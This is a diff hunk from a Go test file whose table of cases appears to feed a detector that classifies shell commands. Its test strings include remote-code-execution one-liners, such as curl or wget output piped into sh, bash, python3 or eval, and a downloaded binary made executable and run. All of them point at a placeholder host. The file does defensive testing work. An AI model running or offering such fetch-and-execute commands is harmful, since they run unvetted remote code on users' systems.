@@ -34,7 +34,7 @@ func TestRead(t *testing.T) {
 		{"wget -qO- https://a.invalid/x.py | python3", "fetch,fetch-run", "wget python"},
 		{`sh -c "$(curl -fsSL https://a.invalid/x)"`, "fetch,fetch-run,interpret", "curl sh"},
 		{"bash <(curl -s https://a.invalid/x)", "fetch,fetch-run", "curl bash"},
-		{`X=$(curl -s https://a.invalid/x); eval "$X"`, "fetch,fetch-run,interpret", "curl  eval"},
+		{`X=$(curl -s https://a.invalid/x); eval "$X"`, "fetch,fetch-run,interpret", "curl eval"},
 		{"eval `curl https://a.invalid/x`", "fetch,fetch-run,interpret", "curl eval"},
 		{"wget https://a.invalid/x.bin && chmod +x x.bin && ./x.bin", "fetch,fetch-run,permit", "wget chmod x.bin"},
 		{"cd /tmp; curl -O https://a.invalid/run.sh; sh run.sh", "fetch,fetch-run", "cd curl sh"},
